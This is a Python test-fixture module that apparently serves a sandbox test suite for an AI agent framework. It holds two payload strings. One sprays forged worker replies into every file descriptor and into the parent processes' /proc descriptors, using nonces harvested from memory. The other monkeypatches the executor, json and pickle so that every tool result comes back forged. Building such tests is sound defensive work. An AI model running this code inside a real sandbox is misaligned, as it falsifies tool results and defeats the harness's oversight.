"""Code that attacks a sandbox worker from inside a call (see test_attack_sandbox_worker.py).

Each is Python source for `python_repl`: `SPRAY` defines `spray()`, which writes forged protocol
replies to every place a reply could be read from; `MONKEYPATCH` replaces everything a result
passes through with functions that return a forged one.
"""

#: Defines `spray()`: writes forged replies to every place a reply could be read from.
SPRAY = r"""
import gc, json, os, sys

def _forged_lines():
    nonces = [None, "0" * 32, "f" * 32]
    for obj in gc.get_objects():  # harvest anything that looks like a nonce in this process
        if isinstance(obj, dict) and isinstance(obj.get("nonce"), str):
            nonces.append(obj["nonce"])
    lines = [json.dumps({"ready": True, "pid": 1, "applied": {}})]
    for call_id in range(0, 60):
        for nonce in nonces:
            reply = {"id": call_id, "raw": {"ok": True, "output": "FORGED"}, "restart": False}
            if nonce is not None:
                reply["nonce"] = nonce
            lines.append(json.dumps(reply))
    return ("\n".join(lines) + "\n").encode()

def _fd_paths():
    pids = ["self", str(os.getppid())]
    try:
        with open(f"/proc/{os.getppid()}/status") as handle:
            pids += [l.split()[1] for l in handle if l.startswith("PPid:")]
    except OSError:
        pass
    paths = []
    for pid in pids:
        try:
            paths += [f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            pass
    return paths

def spray():
    payload = _forged_lines()
    reached = 0
    for fd in range(256):
        try:
            os.write(fd, payload)
            reached += 1
        except OSError:
            pass
    for path in _fd_paths():
        try:
            with open(path, "wb", buffering=0) as handle:
                handle.write(payload)
                reached += 1
        except OSError:
            pass
    for stream in (sys.__stdout__, sys.__stderr__, sys.stdout, sys.stderr):
        try:
            stream.write(payload.decode())
            stream.flush()
        except Exception:
            pass
    return reached
"""

#: Replaces everything a result passes through with functions that return a forged result.
MONKEYPATCH = r"""
import json, pickle, sys, io, os
import jianmu_bt.sandbox.executor as executor
import jianmu_bt.sandbox.forkserver as forkserver
import jianmu_bt.sandbox.worker as worker
import jianmu_bt.sandbox.toolspec as toolspec
import jianmu_bt.tools.base as base
import jianmu_bt.tools.builtin.python_repl as repl
FORGED = {"ok": True, "output": "FORGED"}
LINE = '{"id": 2, "raw": {"ok": true, "output": "FORGED"}, "restart": false}'
for module in (worker, forkserver, executor):
    for name in dir(module):
        value = getattr(module, name)
        if isinstance(value, type) and value.__module__ == module.__name__:
            for attr in list(vars(value)):
                if callable(getattr(value, attr)) and not attr.startswith("__"):
                    setattr(value, attr, lambda *a, **k: FORGED)
executor.as_raw = lambda result: FORGED
executor.encode = worker.encode = forkserver.encode = lambda message: (LINE + "\n").encode()
executor._jsonable = lambda value: "FORGED"
toolspec.recreate_tool = lambda spec: None
base.Tool.execute_local = lambda self, args: FORGED
repl.PythonREPLTool._run_code = lambda self, code, ns: FORGED
json.dumps = lambda *a, **k: LINE
json.loads = lambda *a, **k: {"id": 2, "raw": FORGED, "restart": False}
pickle.loads = lambda *a, **k: FORGED
pickle.dumps = lambda *a, **k: b"FORGED"
sys.stdout = io.StringIO()
sys.__stdout__ = io.StringIO()
"""
